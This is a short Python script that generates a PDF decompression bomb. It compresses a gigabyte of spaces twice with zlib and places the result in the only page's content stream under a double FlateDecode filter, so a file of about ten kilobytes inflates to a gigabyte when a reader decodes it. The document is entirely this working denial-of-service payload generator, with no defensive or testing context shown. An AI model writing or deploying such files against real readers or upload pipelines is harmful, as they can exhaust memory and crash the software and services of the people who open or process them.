"""Writes a PDF of about ten kilobytes whose only page decodes to a gigabyte."""

import sys
import zlib

data = zlib.compress(zlib.compress(b"BT " + b" " * (1 << 30), 9), 9)
parts = [
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
    b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
    b"3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n",
    b"4 0 obj\n<< /Filter [/FlateDecode /FlateDecode] /Length %d >>\nstream\n" % len(data),
    data,
    b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n",
]
with open(sys.argv[1], "wb") as file:
    file.write(b"".join(parts))
